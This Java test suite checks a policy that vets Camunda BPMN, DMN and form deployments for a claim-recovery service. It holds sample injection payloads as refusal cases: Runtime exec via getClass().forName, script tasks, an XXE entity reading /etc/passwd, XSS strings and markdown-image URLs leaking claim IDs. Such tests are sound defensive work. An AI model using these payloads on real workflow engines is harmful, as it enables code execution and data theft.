package org.claimrecovery.engine.modelpolicy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.claimrecovery.engine.modelpolicy.ModelPolicy.Origin.PERSON;
import static org.claimrecovery.engine.modelpolicy.ModelPolicy.Origin.RELEASE;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.support.DefaultListableBeanFactory;
import org.springframework.context.annotation.ClassPathBeanDefinitionScanner;

/**
 * The model policy on real models: the shipped ones and ordinary changes pass, the security probe's models and
 * every construct that runs code or reaches outside are refused with the resource and element named.
 */
class ModelPolicyTest {

  static ModelPolicy policy;

  /** The service's delegates and deadline methods, found as the running service finds them (no beans made). */
  @BeforeAll
  static void policyWithTheServicesBeans() {
    var beans = new DefaultListableBeanFactory();
    new ClassPathBeanDefinitionScanner(beans).scan("org.claimrecovery");
    policy = new ModelPolicy(ExpressionBeans.delegates(beans), ExpressionBeans.deadlineMethods(beans));
  }

  @Test
  void delegatesAreTheServicesDelegatesAndListenersAndDeadlineMethodsTheDeadlinesBeans() {
    var beans = new DefaultListableBeanFactory();
    new ClassPathBeanDefinitionScanner(beans).scan("org.claimrecovery");
    assertThat(ExpressionBeans.delegates(beans))
        .contains("closeCaseDelegate", "reviewDecisionGuard", "storeAttachedDocumentDelegate")
        .doesNotContain("deadlines", "caseClock", "claimRepository", "accessSeeding");
    assertThat(ExpressionBeans.deadlineMethods(beans))
        .contains("expiryOf", "providerDueDate", "filingBoundExpiry", "idrInitiationDue", "idrInitiationExpiry",
            "idrInitiationEscalationDate", "idrDueDate")
        .doesNotContain("getClass", "wait", "toString");
  }

  // --- what passes -------------------------------------------------------------------------------------

  @Test
  void everyShippedModelAndFormPassesInTheReleaseDeployment() throws IOException {
    Map<String, byte[]> release = new LinkedHashMap<>(shipped("bpmn"));
    release.putAll(shipped("forms"));
    assertThat(release).containsKeys("bpmn/claim-recovery.bpmn", "bpmn/dispute-pathway.dmn",
        "forms/review-initial-payment.form", "forms/attach-document.html");

    assertThat(policy.check(release, RELEASE)).isEmpty();
  }

  @Test
  void everyShippedBpmnDmnAndFormPassesWhenAPersonDeploysIt() throws IOException {
    Map<String, byte[]> models = new LinkedHashMap<>(shipped("bpmn"));
    shipped("forms").forEach((name, content) -> {
      if (name.endsWith(".form")) {
        models.put(name, content);
      }
    });
    assertThat(policy.check(models, PERSON)).isEmpty();
  }

  @Test
  void aRenamedTaskInAShippedModelPasses() throws IOException {
    String changed = Files.readString(Path.of("bpmn/dispatch-letter.bpmn"))
        .replace("name=\"Dispatch letter from the outbox\"", "name=\"Send the letter waiting in the outbox\"");
    assertThat(changed).contains("Send the letter waiting in the outbox");

    assertThat(check("dispatch-letter.bpmn", changed)).isEmpty();
  }

  @Test
  void aNewGatewayConditionOnVariablesAndANewDeadlineTimerPass() {
    String model = process("""
        <bpmn:exclusiveGateway id="bigEnough" default="otherwise" />
        <bpmn:sequenceFlow id="large" sourceRef="bigEnough" targetRef="wait">
          <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${(amountAtStake >= 1000 || escalated) &amp;&amp; pathway != 'FEDERAL_IDR' &amp;&amp; !settled}</bpmn:conditionExpression>
        </bpmn:sequenceFlow>
        <bpmn:sequenceFlow id="otherwise" sourceRef="bigEnough" targetRef="wait" />
        <bpmn:intermediateCatchEvent id="wait">
          <bpmn:timerEventDefinition id="waitTimer">
            <bpmn:timeDate xsi:type="bpmn:tFormalExpression">${deadlines.escalationDateOf(execution, 'OPEN_NEGOTIATION_INITIATION')}</bpmn:timeDate>
          </bpmn:timerEventDefinition>
        </bpmn:intermediateCatchEvent>
        <bpmn:userTask id="review" camunda:candidateGroups="billing-specialists" camunda:dueDate="${deadlines.providerDueDate(execution)}">
          <bpmn:extensionElements>
            <camunda:taskListener event="complete" delegateExpression="${reviewDecisionGuard}" />
          </bpmn:extensionElements>
        </bpmn:userTask>
        <bpmn:callActivity id="negotiate" calledElement="negotiation">
          <bpmn:extensionElements>
            <camunda:in businessKey="#{execution.processBusinessKey}" />
            <camunda:in source="claimId" target="claimId" />
          </bpmn:extensionElements>
        </bpmn:callActivity>
        <bpmn:serviceTask id="close" camunda:delegateExpression="${closeCaseDelegate}" />
        """);
    assertThat(check("changed.bpmn", model)).isEmpty();
  }

  // --- the security probe --------------------------------------------------------------------------------

  @Test
  void theProbesShellCommandBehindAPastTimerIsRefused() throws IOException {
    var violations = check("probe-shell-command.bpmn", Files.readString(Path.of(
        "src/test/resources/policy/probe-shell-command.bpmn")));

    assertThat(violations).singleElement().satisfies(violation -> {
      assertThat(violation.resource()).isEqualTo("probe-shell-command.bpmn");
      assertThat(violation.elementId()).isEqualTo("runCommand");
      assertThat(violation.problem()).contains("camunda:expression ${''.getClass().forName(", "exec(",
          "calls the method exec()");
    });
  }

  @Test
  void theProbesSqlQueryThroughASpringBeanIsRefused() throws IOException {
    var violations = check("probe-sql-query.bpmn", Files.readString(Path.of(
        "src/test/resources/policy/probe-sql-query.bpmn")));

    assertThat(violations).singleElement().satisfies(violation -> {
      assertThat(violation.elementId()).isEqualTo("countUsers");
      assertThat(violation.problem()).contains("${jdbcClient.sql('SELECT COUNT(*) FROM ACT_ID_USER')",
          "calls the method singleValue()");
    });
  }

  // --- every construct that runs code ----------------------------------------------------------------------

  static Stream<Arguments> refusedBpmn() {
    return Stream.of(
        refused("a script task", """
            <bpmn:scriptTask id="run" scriptFormat="groovy"><bpmn:script>'touch x'.execute()</bpmn:script></bpmn:scriptTask>""",
            "run", "a script task runs code"),
        refused("a script execution listener", """
            <bpmn:task id="run"><bpmn:extensionElements><camunda:executionListener event="start">
              <camunda:script scriptFormat="javascript">java.lang.Runtime.getRuntime()</camunda:script>
            </camunda:executionListener></bpmn:extensionElements></bpmn:task>""", "run", "camunda:script"),
        refused("a script input parameter", """
            <bpmn:task id="run"><bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name="x">
              <camunda:script scriptFormat="groovy">1</camunda:script>
            </camunda:inputParameter></camunda:inputOutput></bpmn:extensionElements></bpmn:task>""",
            "run", "a script runs code"),
        refused("a script condition from a resource", """
            <bpmn:exclusiveGateway id="choose" />
            <bpmn:sequenceFlow id="go" sourceRef="choose" targetRef="choose">
              <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" language="javascript" camunda:resource="deployment://c.js" />
            </bpmn:sequenceFlow>""", "go", "language=\"javascript\""),
        refused("a Java class as service task", """
            <bpmn:serviceTask id="run" camunda:class="org.example.Evil" />""", "run",
            "camunda:class=\"org.example.Evil\""),
        refused("a Java class with field injection", """
            <bpmn:serviceTask id="run" camunda:class="org.example.Evil">
              <bpmn:extensionElements><camunda:field name="command" stringValue="touch x" /></bpmn:extensionElements>
            </bpmn:serviceTask>""", "run", "a model names no Java class"),
        refused("a Java class as task listener", """
            <bpmn:userTask id="work"><bpmn:extensionElements>
              <camunda:taskListener event="create" class="org.example.Evil" />
            </bpmn:extensionElements></bpmn:userTask>""", "work", "class=\"org.example.Evil\""),
        refused("a Java class as execution listener", """
            <bpmn:task id="run"><bpmn:extensionElements>
              <camunda:executionListener event="start" class="org.example.Evil" />
            </bpmn:extensionElements></bpmn:task>""", "run", "class=\"org.example.Evil\""),
        refused("a variable mapping class", """
            <bpmn:callActivity id="call" calledElement="negotiation" camunda:variableMappingClass="org.example.Evil" />""",
            "call", "camunda:variableMappingClass"),
        refused("a form handler class", """
            <bpmn:userTask id="work" camunda:formHandlerClass="org.example.Evil" />""", "work",
            "camunda:formHandlerClass"),
        refused("a Java class in the old activiti namespace", """
            <bpmn:serviceTask id="run" xmlns:activiti="http://activiti.org/bpmn" activiti:class="org.example.Evil" />""",
            "run", "activiti:class"),
        refused("a custom form field validator class", """
            <bpmn:userTask id="work"><bpmn:extensionElements><camunda:formData>
              <camunda:formField id="amount" type="long"><camunda:validation>
                <camunda:constraint name="validator" config="org.example.Evil" />
              </camunda:validation></camunda:formField>
            </camunda:formData></bpmn:extensionElements></bpmn:userTask>""", "amount", "validator"),
        refused("a connector", """
            <bpmn:serviceTask id="call"><bpmn:extensionElements><camunda:connector>
              <camunda:connectorId>http-connector</camunda:connectorId>
            </camunda:connector></bpmn:extensionElements></bpmn:serviceTask>""", "call", "a connector calls"),
        refused("a delegate expression naming a bean that is no delegate", """
            <bpmn:serviceTask id="run" camunda:delegateExpression="${dataSource}" />""", "run",
            "${dataSource} is not a delegate bean"),
        refused("a method call on the execution", """
            <bpmn:serviceTask id="run" camunda:expression="${execution.getProcessEngineServices().getIdentityService()}" />""",
            "run", "calls the method getIdentityService()"),
        refused("a property of the execution", """
            <bpmn:userTask id="work" camunda:assignee="${execution.processEngine.name}" />""", "work",
            "reads the property"),
        refused("a bracket property", """
            <bpmn:userTask id="work" camunda:assignee="${execution['processEngine']}" />""", "work",
            "reads a property with []"),
        refused("a function", """
            <bpmn:userTask id="work" camunda:dueDate="${dateTime().plusDays(3).toDate()}" />""", "work",
            "calls the method toDate()"),
        refused("a deadlines method that does not exist", """
            <bpmn:userTask id="work" camunda:dueDate="${deadlines.getClass()}" />""", "work",
            "models may call only the deadlines bean's methods"),
        refused("a deadlines call with a computed argument", """
            <bpmn:userTask id="work" camunda:dueDate="${deadlines.expiryOf(execution, code.toString())}" />""",
            "work", "passes"),
        refused("arithmetic", """
            <bpmn:userTask id="work" camunda:priority="${priority * 2}" />""", "work", "uses the operator"),
        refused("an expression in an input parameter", """
            <bpmn:task id="run"><bpmn:extensionElements><camunda:inputOutput>
              <camunda:inputParameter name="engine">${execution.processEngineServices}</camunda:inputParameter>
            </camunda:inputOutput></bpmn:extensionElements></bpmn:task>""", "run", "camunda:inputParameter"),
        refused("a markdown image in an input parameter", """
            <bpmn:task id="run"><bpmn:extensionElements><camunda:inputOutput>
              <camunda:inputParameter name="note">![x](https://example.com/x.png?${claimId})</camunda:inputParameter>
            </camunda:inputOutput></bpmn:extensionElements></bpmn:task>""", "run", "a markdown image"),
        refused("a form from another server", """
            <bpmn:userTask id="work" camunda:formKey="embedded:https://example.com/form.html" />""", "work",
            "never from another server"),
        refused("a form named by a variable", """
            <bpmn:userTask id="work" camunda:formKey="${formOfTheDay}" />""", "work", "or a variable"));
  }

  @ParameterizedTest(name = "refuses {0}")
  @MethodSource("refusedBpmn")
  void refusesBpmnThatRunsCodeNamingTheElement(String construct, String body, String elementId, String problem) {
    var violations = check("construct.bpmn", process(body));

    assertThat(violations).as(construct).isNotEmpty().allSatisfy(violation -> {
      assertThat(violation.resource()).isEqualTo("construct.bpmn");
      assertThat(violation.elementId()).isEqualTo(elementId);
    });
    assertThat(violations).extracting(PolicyViolation::problem).anySatisfy(text -> assertThat(text).contains(problem));
  }

  @Test
  void everyProblemOfADeploymentIsListedNotOnlyTheFirst() {
    var violations = policy.check(Map.of(
        "first.bpmn", bytes(process("""
            <bpmn:serviceTask id="one" camunda:class="org.example.Evil" />
            <bpmn:userTask id="two" camunda:assignee="${execution.processEngine}" />""")),
        "second.dmn", bytes(decision("<text>planType</text>", "<text>\"A\"</text>", "<text>x.toString()</text>"))),
        PERSON);

    assertThat(violations).extracting(PolicyViolation::resource, PolicyViolation::elementId)
        .containsExactlyInAnyOrder(
            tuple("first.bpmn", "one"),
            tuple("first.bpmn", "two"),
            tuple("second.dmn", "out"));
  }

  @Test
  void aDoctypeIsRefusedSoNoEntityIsRead() {
    String model = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
        + process("<bpmn:task id=\"t\" name=\"&e;\" />").replaceFirst("<\\?xml[^>]*>", "");

    assertThat(check("entity.bpmn", model)).singleElement()
        .satisfies(violation -> assertThat(violation.problem()).contains("DOCTYPE"));
  }

  // --- decision tables ----------------------------------------------------------------------------------

  @Test
  void decisionTablesWithFeelTestsLiteralsAndNamesPass() {
    assertThat(checkDecision("<text>planType</text>",
        "<text>not(\"MEDICAID\", \"OTHER\")</text>", "<text>\"APPEAL\"</text>")).isEmpty();
    assertThat(checkDecision("<text>amount</text>", "<text>[1000..5000.50]</text>", "<text>nsaEligible</text>"))
        .isEmpty();
    assertThat(checkDecision("<text>amount</text>", "<text>&lt; -5, &gt;= 10</text>", "<text>42</text>")).isEmpty();
    assertThat(checkDecision("<text>consent</text>", "<text>-</text>", "<text>true</text>")).isEmpty();
  }

  static Stream<Arguments> refusedDmn() {
    return Stream.of(
        Arguments.of("a JUEL input expression", "<text>planType.getClass()</text>", "<text>-</text>",
            "<text>true</text>", "planTypeExpression", "a variable name"),
        Arguments.of("an expression in an input entry", "<text>planType</text>", "<text>${x}</text>",
            "<text>true</text>", "planTypeEntry", "no ${…}"),
        Arguments.of("a method call in an input entry", "<text>planType</text>",
            "<text>planType.length() &gt; 3</text>", "<text>true</text>", "planTypeEntry", "simple unary tests"),
        Arguments.of("a function in an input entry", "<text>planType</text>",
            "<text>date and time(\"2020-01-01T00:00:00\")</text>", "<text>true</text>", "planTypeEntry",
            "simple unary tests"),
        Arguments.of("a method call in an output entry", "<text>planType</text>", "<text>-</text>",
            "<text>\"\".getClass().forName(\"java.lang.Runtime\")</text>", "out", "a literal"),
        Arguments.of("a link in an output entry", "<text>planType</text>", "<text>-</text>",
            "<text>\"[see](https://example.com)\"</text>", "out", "a URL"));
  }

  @ParameterizedTest(name = "refuses {0}")
  @MethodSource("refusedDmn")
  void refusesDecisionTablesThatRunCodeNamingTheElement(String construct, String input, String entry, String output,
      String elementId, String problem) {
    var violations = checkDecision(input, entry, output);

    assertThat(violations).as(construct).extracting(PolicyViolation::elementId).contains(elementId);
    assertThat(violations).extracting(PolicyViolation::problem).anySatisfy(text -> assertThat(text).contains(problem));
  }

  @Test
  void anExpressionLanguageOtherThanFeelIsRefused() {
    String model = decision("<text>planType</text>", "<text>-</text>", "<text>true</text>")
        .replace("<definitions ", "<definitions expressionLanguage=\"juel\" ")
        .replace("<outputEntry id=\"out\">", "<outputEntry id=\"out\" expressionLanguage=\"javascript\">");

    assertThat(check("languages.dmn", model)).extracting(PolicyViolation::elementId, PolicyViolation::problem)
        .containsExactly(
            tuple("changedDecisions", "expressionLanguage=\"juel\": decision tables use FEEL"),
            tuple("out", "expressionLanguage=\"javascript\": decision tables use FEEL"));
  }

  // --- forms ---------------------------------------------------------------------------------------------

  static Stream<Arguments> refusedForms() {
    return Stream.of(
        Arguments.of("an iframe", "{\"type\": \"iframe\", \"id\": \"frame\", \"url\": \"https://example.com\"}",
            "frame", "component type iframe"),
        Arguments.of("raw HTML", "{\"type\": \"html\", \"id\": \"markup\", \"content\": \"<b>x</b>\"}", "markup",
            "component type html"),
        Arguments.of("an image", "{\"type\": \"image\", \"id\": \"logo\", \"source\": \"=logoUrl\"}", "logo",
            "component type image"),
        Arguments.of("an image in nested components",
            "{\"type\": \"group\", \"id\": \"box\", \"components\": [{\"type\": \"image\", \"id\": \"pic\"}]}", "pic",
            "component type image"),
        Arguments.of("a markdown image in text",
            "{\"type\": \"text\", \"id\": \"note\", \"text\": \"![x](/api/claims)\"}", "note", "a markdown image"),
        Arguments.of("a markdown link in text",
            "{\"type\": \"text\", \"id\": \"note\", \"text\": \"[Open](/evil)\"}", "note", "a markdown link"),
        Arguments.of("a URL in a label",
            "{\"type\": \"textfield\", \"id\": \"field\", \"key\": \"x\", \"label\": \"see https://example.com\"}",
            "field", "a URL"),
        Arguments.of("raw HTML in text",
            "{\"type\": \"text\", \"id\": \"note\", \"text\": \"<img src=x onerror=alert(1)>\"}", "note", "raw HTML"),
        Arguments.of("a javascript link",
            "{\"type\": \"text\", \"id\": \"note\", \"text\": \"javascript:alert(1)\"}", "note", "javascript:"),
        Arguments.of("a URL joined in a FEEL expression",
            "{\"type\": \"text\", \"id\": \"note\", \"text\": \"=\\\"![x](ht\\\" + \\\"tps:/\\\" + \\\"/example.com/?\\\" + claimNumber\"}",
            "note", "a URL"),
        Arguments.of("a function in a FEEL expression",
            "{\"type\": \"text\", \"id\": \"note\", \"text\": \"=string join([\\\"a\\\", \\\"b\\\"])\"}", "note",
            "a function call"));
  }

  @ParameterizedTest(name = "refuses {0}")
  @MethodSource("refusedForms")
  void refusesFormsThatCarryCodeOrOutsideContentNamingTheComponent(String construct, String component,
      String componentId, String problem) {
    String form = "{\"id\": \"changed\", \"type\": \"default\", \"components\": [" + component + "]}";
    var violations = check("changed.form", form);

    assertThat(violations).as(construct).extracting(PolicyViolation::elementId).contains(componentId);
    assertThat(violations).extracting(PolicyViolation::problem).anySatisfy(text -> assertThat(text).contains(problem));
  }

  // --- embedded forms and other files -------------------------------------------------------------------------

  @Test
  void anEmbeddedHtmlFormShipsWithTheReleaseOnly() throws IOException {
    byte[] html = Files.readAllBytes(Path.of("forms/attach-document.html"));

    assertThat(policy.check(Map.of("forms/attach-document.html", html), RELEASE)).isEmpty();
    assertThat(policy.check(Map.of("attach-document.html", html), PERSON)).singleElement()
        .satisfies(violation -> assertThat(violation.problem()).contains("embedded HTML form", "release"));
  }

  @Test
  void aPersonDeploysNoOtherKindOfFile() {
    assertThat(policy.check(Map.of("run.js", bytes("java.lang.Runtime.getRuntime()"),
        "case.cmmn", bytes("<definitions/>")), PERSON))
        .extracting(PolicyViolation::resource).containsExactlyInAnyOrder("run.js", "case.cmmn");
  }

  // --- helpers -------------------------------------------------------------------------------------------

  static Arguments refused(String construct, String body, String elementId, String problem) {
    return Arguments.of(construct, body, elementId, problem);
  }

  static List<PolicyViolation> check(String name, String content) {
    return policy.check(Map.of(name, bytes(content)), PERSON);
  }

  static List<PolicyViolation> checkDecision(String input, String entry, String output) {
    return check("changed.dmn", decision(input, entry, output));
  }

  static String process(String body) {
    return """
        <?xml version="1.0" encoding="UTF-8"?>
        <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
            xmlns:camunda="http://camunda.org/schema/1.0/bpmn" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
            id="changedDefinitions" targetNamespace="http://claimrecovery.org/bpmn">
          <bpmn:process id="changed" isExecutable="true" camunda:historyTimeToLive="1">
            <bpmn:documentation>Anything may be written here, even ${''.getClass()}: it is never evaluated.</bpmn:documentation>
        %s
          </bpmn:process>
        </bpmn:definitions>
        """.formatted(body);
  }

  static String decision(String input, String entry, String output) {
    return """
        <?xml version="1.0" encoding="UTF-8"?>
        <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:camunda="http://camunda.org/schema/1.0/dmn"
            id="changedDecisions" name="Changed" namespace="http://claimrecovery.org/dmn">
          <decision id="changed" name="Changed" camunda:historyTimeToLive="1">
            <decisionTable id="changedTable">
              <input id="planTypeInput"><inputExpression id="planTypeExpression" typeRef="string">%s</inputExpression></input>
              <output id="result" name="result" typeRef="string" />
              <rule id="onlyRule">
                <inputEntry id="planTypeEntry">%s</inputEntry>
                <outputEntry id="out">%s</outputEntry>
              </rule>
            </decisionTable>
          </decision>
        </definitions>
        """.formatted(input, entry, output);
  }

  static Map<String, byte[]> shipped(String dir) throws IOException {
    Map<String, byte[]> resources = new LinkedHashMap<>();
    try (Stream<Path> files = Files.list(Path.of(dir))) {
      for (Path file : files.filter(Files::isRegularFile).sorted().toList()) {
        resources.put(dir + "/" + file.getFileName(), Files.readAllBytes(file));
      }
    }
    return resources;
  }

  static byte[] bytes(String content) {
    return content.getBytes(StandardCharsets.UTF_8);
  }
}
